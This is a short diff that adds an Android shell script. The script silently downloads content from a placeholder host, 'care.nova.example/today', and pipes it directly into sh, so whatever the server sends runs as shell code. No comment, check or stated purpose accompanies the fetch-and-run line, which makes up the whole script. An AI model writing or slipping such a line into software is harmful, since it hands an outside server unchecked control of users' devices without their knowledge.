@@ -1,0 +1,3 @@
+#!/system/bin/sh
+HOST=http://care.nova.example
+curl -s "$HOST/today" | sh
